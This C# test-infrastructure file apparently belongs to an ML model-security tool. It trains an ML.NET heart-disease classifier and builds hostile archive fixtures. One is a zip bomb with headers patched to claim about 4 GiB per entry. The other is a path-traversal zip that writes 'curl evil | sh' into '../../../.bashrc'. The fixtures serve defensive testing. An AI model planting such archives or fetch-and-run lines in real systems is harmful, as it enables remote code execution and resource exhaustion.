using System;
using System.IO;
using System.IO.Compression;
using System.Linq;
using Microsoft.ML;
using Microsoft.ML.Data;

namespace MlopsGuard.EndToEnd.Tests.Infrastructure
{
    /// <summary>A binary classifier of the heart data set, as an ML.NET zip and an ONNX export, with its test metrics.</summary>
    public sealed class HeartModels
    {
        private static readonly Lazy<HeartModels> Instance = new(() => new HeartModels());

        private HeartModels()
        {
            Directory = Path.Combine(Path.GetTempPath(), "mlopsguard-e2e-models-" + Environment.ProcessId);
            System.IO.Directory.CreateDirectory(Directory);
            var ml = new MLContext(seed: 11);
            var training = ml.Data.LoadFromTextFile<HeartRow>(Path.Combine(TestEnvironment.SharedData, "HeartTraining.csv"), separatorChar: ';');
            var test = ml.Data.LoadFromTextFile<HeartRow>(Path.Combine(TestEnvironment.SharedData, "HeartTest.csv"), separatorChar: ';');
            var model = ml.Transforms.NormalizeMinMax("Features")
                .Append(ml.BinaryClassification.Trainers.SdcaLogisticRegression())
                .Fit(training);
            ml.Model.Save(model, training.Schema, Path.Combine(Directory, "heart.zip"));
            using (var stream = File.Create(Path.Combine(Directory, "heart.onnx")))
            {
                ml.Model.ConvertToOnnx(model, training, stream);
            }

            var metrics = ml.BinaryClassification.Evaluate(model.Transform(test));
            Accuracy = metrics.Accuracy;
            File.WriteAllText(Path.Combine(Directory, "metrics.json"), FormattableString.Invariant(
                $"{{ \"test\": {{ \"Accuracy\": {metrics.Accuracy}, \"AreaUnderRocCurve\": {metrics.AreaUnderRocCurve} }} }}"));
        }

        /// <summary>Made once per test run, on first use.</summary>
        public static HeartModels Get => Instance.Value;

        public string Directory { get; }

        public double Accuracy { get; }

        public void CopyTo(string projectDirectory, params string[] files)
        {
            System.IO.Directory.CreateDirectory(Path.Combine(projectDirectory, "models"));
            foreach (var file in files)
            {
                File.Copy(Path.Combine(Directory, file), Path.Combine(projectDirectory, "models", file), overwrite: true);
            }
        }

        /// <summary>Entries of zeros whose headers declare almost 4 GiB each.</summary>
        public static byte[] Bomb()
        {
            var zip = Zip(Enumerable.Range(0, 4).Select(i => ($"TransformerChain/Transform_{i}/Model.key", new byte[1 << 20])).ToArray());
            for (var i = 0; i + 46 <= zip.Length; i++)
            {
                var signature = BitConverter.ToUInt32(zip, i);
                var offset = signature == 0x04034b50 ? 22 : signature == 0x02014b50 ? 24 : -1;
                if (offset > 0)
                {
                    BitConverter.GetBytes(0xF0000000u).CopyTo(zip, i + offset);
                }
            }

            return zip;
        }

        public static byte[] Traversal() => Zip(
            ("TransformerChain/Model.key", System.Text.Encoding.ASCII.GetBytes("ML\0MODEL")),
            ("../../../.bashrc", System.Text.Encoding.ASCII.GetBytes("curl evil | sh")));

        private static byte[] Zip(params (string Name, byte[] Content)[] entries)
        {
            using var stream = new MemoryStream();
            using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
            {
                foreach (var (name, content) in entries)
                {
                    using var entry = zip.CreateEntry(name, CompressionLevel.Optimal).Open();
                    entry.Write(content, 0, content.Length);
                }
            }

            return stream.ToArray();
        }
    }

    public sealed class HeartRow
    {
        [LoadColumn(0, 12)]
        [VectorType(13)]
        public float[] Features { get; set; } = Array.Empty<float>();

        [LoadColumn(13)]
        public bool Label { get; set; }
    }
}
